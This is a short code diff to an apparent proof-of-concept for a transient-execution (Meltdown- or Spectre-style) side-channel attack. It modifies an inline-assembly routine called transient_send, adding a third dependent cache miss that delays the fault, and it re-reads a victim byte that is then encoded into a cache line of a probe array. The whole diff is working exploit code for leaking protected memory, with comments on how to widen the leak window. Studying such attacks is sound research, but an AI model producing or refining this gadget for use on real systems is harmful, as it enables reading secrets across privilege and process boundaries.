@@ -18,8 +18,9 @@ void transient_send(const void* slow, const std::uint8_t* guard, const std::uint
 extern const char transient_send_end[];
 }
 
-// Two dependent misses keep the fault from being raised; the guard and the victim need not wait for
-// them. Nothing but the channel's line remembers the byte.
+// Three dependent misses keep the fault from being raised. The victim is read at once, which
+// fetches its line, and again when the second of them is there: by then the line has come, and
+// there is a whole miss left to send in. Nothing but the channel's line remembers the byte.
 asm(R"(
     .pushsection .text
     .balign 64
@@ -28,8 +29,11 @@ asm(R"(
 transient_send:
     movq (%rdi), %rdi
     movq (%rdi), %rdi
+    movq (%rdi), %r8
     movzbl (%rsi), %eax
     movzbl (%rdx), %eax
+    andl $0, %edi
+    movzbl (%rdx,%rdi), %eax
     shlq $12, %rax
     movzbl (%rcx,%rax), %eax
 transient_send_end:
